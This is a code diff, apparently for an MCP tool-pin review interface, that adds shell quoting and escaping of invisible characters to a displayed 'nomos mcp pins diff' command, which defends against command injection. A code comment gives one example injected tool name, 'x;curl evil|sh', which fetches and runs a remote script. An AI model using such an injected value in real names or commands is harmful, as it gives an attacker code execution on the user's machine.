@@ -346,7 +346,7 @@ function reviewPin(upstream, p, decision) {
     el("dt", {}, "Reason"), el("dd", {}, p.kind === "new_tool" ? "new tool" : "changed: " + p.changed_fields.join(", ")),
     el("dt", {}, "Offered"), el("dd", {}, p.offered_fingerprint),
     el("dt", {}, "Accepted"), el("dd", {}, p.fingerprint || "none"),
-    el("dt", {}, "Compare"), el("dd", {}, "nomos mcp pins diff --upstream " + upstream + " --tool " + p.tool)));
+    el("dt", {}, "Compare"), el("dd", {}, "nomos mcp pins diff --upstream " + shellQuote(upstream) + " --tool " + shellQuote(p.tool))));
   $("confirm-ok").textContent = verb;
   $("confirm-ok").className = decision === "accept" ? "approve" : "deny";
   dlg.returnValue = "";
@@ -386,3 +386,11 @@ $("explain-form").addEventListener("submit", async (ev) => {
 });
 
 start();
+
+// shellQuote makes an upstream-chosen name safe to paste into a POSIX
+// shell (a tool named "x;curl evil|sh" stays one argument), and shows
+// characters that would print as nothing as \u escapes.
+function shellQuote(s) {
+  const shown = String(s).replace(/[\p{Cf}\p{Cc}\p{Zl}\p{Zp}]/gu, (c) => "\\u" + c.codePointAt(0).toString(16).padStart(4, "0"));
+  return "'" + shown.replace(/'/g, "'\\''") + "'";
+}
